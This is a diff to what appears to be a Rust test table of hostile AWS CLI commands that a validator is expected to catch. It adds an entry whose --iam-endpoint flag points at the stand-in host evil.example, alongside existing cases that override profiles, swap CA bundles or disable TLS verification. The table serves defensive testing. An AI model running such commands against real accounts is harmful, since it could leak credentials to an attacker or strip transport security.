@@ -40,6 +40,10 @@ const HOSTILE: &[(&str, &str)] = &[
     ("aws s3 ls '--profile' admin", "--profile"),
     ("aws s3 ls --pro\"file\" admin", "--profile"),
     ("aws s3 ls --ca-bundle /tmp/ca.pem", "--ca-bundle"),
+    (
+        "aws emr-containers update-role-trust-policy --iam-endpoint https://evil.example",
+        "--iam-endpoint",
+    ),
     ("aws s3 ls --no-verify-ssl", "--no-verify-ssl"),
     ("aws s3 ls --no-v", "--no-verify-ssl"),
     ("aws s3 ls --no-sign-request", "--no-sign-request"),
